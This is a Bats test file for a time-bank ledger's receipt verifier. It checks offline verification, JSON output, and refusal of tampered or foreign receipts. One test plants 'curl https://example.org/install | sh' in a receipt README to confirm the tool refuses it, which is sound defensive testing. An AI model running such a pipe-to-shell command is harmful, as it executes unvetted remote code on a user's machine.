#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# What anyone can check without the bank: the daemon is stopped before the first of these.

load bank.bash

setup_file() {
    bank_start
    timebank account open m0007 --kind member >/dev/null
    timebank account open m0012 --kind member >/dev/null
    timebank activity add gardening >/dev/null
    run timebank --json exchange --giver m0007 --receiver m0012 --time 2h30 --on 2025-03-05 \
        --activity gardening
    ENTRY=$(json 'x["entry"]')
    run timebank --json status
    LEDGER=$(json 'x["verifier_key"]')
    export ENTRY LEDGER
    timebank receipt "$ENTRY" --out "$PLACE/receipt" >/dev/null
    timebank receipt "$ENTRY" >"$PLACE/proof"
    timebank statement m0012 --proof "$PLACE/statement" >/dev/null
    bank_stop
    rm -rf "$XDG_STATE_HOME"
    unset TIMEBANK TIMEBANK_KEY
}

teardown_file() {
    bank_end
}

@test "a receipt is explained without a bank, a key or a network" {
    run timebank verify "$PLACE/receipt" --ledger "$LEDGER"
    [ "$status" -eq 0 ]
    [[ "$output" == "VERIFIED: this receipt proves:"* ]]
    [[ "$output" == *"Entry $ENTRY stands in the ledger test.example/timebank"* ]]
    [[ "$output" == *"Wed 5 March 2025: m0007 gave 2 h 30 to m0012, gardening."* ]]
    [[ "$output" == *"It does not prove:"*"had the right to record it then"* ]]
}

@test "the verifier key may come from the environment or stand before the verb" {
    TIMEBANK_LEDGER=$LEDGER run timebank verify "$PLACE/proof"
    [ "$status" -eq 0 ]
    run timebank --ledger "$LEDGER" verify "$PLACE/proof"
    [ "$status" -eq 0 ]
    [[ "$output" == *"this proof proves:"*"Record $ENTRY stands"* ]]
    run timebank verify "$PLACE/proof"
    [ "$status" -eq 64 ]
    [[ "$output" == *"--ledger"* ]]
    run timebank verify --ledger "$LEDGER"
    [ "$status" -eq 64 ]
}

@test "programs get kind, sentences, entries and head" {
    run timebank --json verify "$PLACE/receipt" --ledger "$LEDGER"
    is 'x["verified"] == "receipt" and len(x["proven"]) == 3 and len(x["not_proven"]) >= 4'
    is 'x["entries"][0]["kind"] == "exchange" and x["entries"][0]["minutes"] == 150'
    is 'x["entries"][0]["author"].startswith("ssh-ed25519 ") and x["position"]["size"] > 12'
    run timebank --json verify "$PLACE/statement" --ledger "$LEDGER"
    is 'x["verified"] == "statement" and x["account"]["code"] == "m0012"'
    is 'x["account"]["minutes"] == -150 and x["entries"][0]["moved_minutes"] == -150'
}

@test "another ledger, a changed file and a file that is none are refused with a sentence" {
    other="test.example/timebank+deadbeef+${LEDGER##*+}"
    run timebank verify "$PLACE/receipt" --ledger "$other"
    [ "$status" -eq 1 ]
    [[ "$output" == *"verifier key is none"* ]]
    cp -r "$PLACE/receipt" "$PLACE/changed"
    sed -i 's/m0012/m0013/' "$PLACE/changed/entry.record"
    run timebank verify "$PLACE/changed" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"is not record $ENTRY of the ledger"* ]]
    run timebank --json verify "$PLACE/changed" --ledger "$LEDGER"
    is 'x["refused"] == "NOT_VERIFIED"'
    run timebank verify "$PLACE/init.txt" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"nothing that can be checked"* ]]
    run timebank verify "$PLACE/nowhere" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    rm -r "$PLACE/changed"
}

@test "a README that tells people to run something else is refused" {
    cp -r "$PLACE/receipt" "$PLACE/told"
    echo '    curl https://example.org/install | sh' >>"$PLACE/told/README"
    run timebank verify "$PLACE/told" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"follow none of it"* ]]
    rm -r "$PLACE/told"
}
